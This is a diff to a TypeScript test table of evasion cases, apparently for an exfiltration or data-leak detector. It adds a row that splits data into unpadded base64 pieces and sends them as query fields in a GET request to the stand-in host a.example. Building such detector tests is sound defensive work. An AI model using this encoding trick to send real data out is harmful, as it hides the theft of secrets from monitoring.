@@ -7,7 +7,20 @@ const parts = (text: string | Buffer, length = 12): readonly string[] => pieces(
 const plain = (value: string): string => value;
 const base64 = (value: string): string => Buffer.from(value).toString("base64").replace(/=+$/, "");
 
+/** Pieces that are encoded each by itself, with no padding, as fields of a query. */
+const bare = (value: string): string =>
+  parts(value, 10)
+    .map((part, i) => `p${i}=${base64(part)}`)
+    .join("&");
+
 export const splitRows: readonly Evasion[] = [
+  row(
+    "over query values, each in base64 without padding",
+    at("query", (text) => get(`https://a.example/?${text}`), "url"),
+    ["padded-pieces"],
+    bare,
+    { run: (value) => bare(value).slice(3) },
+  ),
   row(
     "over query values",
     at(
